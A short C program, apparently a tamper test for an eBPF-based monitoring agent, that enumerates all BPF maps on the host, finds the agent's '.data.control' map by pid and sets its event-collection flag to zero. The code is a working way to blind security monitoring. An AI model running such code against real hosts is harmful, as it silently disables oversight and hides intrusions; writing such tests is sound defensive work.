// Does what somebody does who wants the agent to see nothing: finds the map that holds its settings among all maps of this host, by
// number, and writes "take no events" into it.
#define _GNU_SOURCE
#include <linux/bpf.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

static long call(int command, union bpf_attr *attributes) { return syscall(SYS_bpf, command, attributes, sizeof *attributes); }

int main(int count, char **arguments) {
    if (count != 2) return 2;
    unsigned agent = (unsigned)atoi(arguments[1]), written = 0;
    union bpf_attr next;
    memset(&next, 0, sizeof next);
    while (call(BPF_MAP_GET_NEXT_ID, &next) == 0) {
        union bpf_attr open;
        memset(&open, 0, sizeof open);
        open.map_id = next.next_id;
        next.start_id = next.next_id;
        long map = call(BPF_MAP_GET_FD_BY_ID, &open);
        if (map < 0) continue;
        struct bpf_map_info info;
        memset(&info, 0, sizeof info);
        union bpf_attr ask;
        memset(&ask, 0, sizeof ask);
        ask.info.bpf_fd = (unsigned)map;
        ask.info.info_len = sizeof info;
        ask.info.info = (unsigned long)&info;
        if (call(BPF_OBJ_GET_INFO_BY_FD, &ask) == 0 && strcmp(info.name, ".data.control") == 0) {
            unsigned key = 0;
            unsigned *value = calloc(1, info.value_size + 8);
            union bpf_attr element;
            memset(&element, 0, sizeof element);
            element.map_fd = (unsigned)map;
            element.key = (unsigned long)&key;
            element.value = (unsigned long)value;
            // The first word is the agent's pid, the second says whether events are taken.
            if (value && call(BPF_MAP_LOOKUP_ELEM, &element) == 0 && value[0] == agent) {
                value[1] = 0;
                if (call(BPF_MAP_UPDATE_ELEM, &element) == 0) written++;
            }
            free(value);
        }
        close((int)map);
    }
    printf("%u\n", written);
    return written == 1 ? 0 : 1;
}
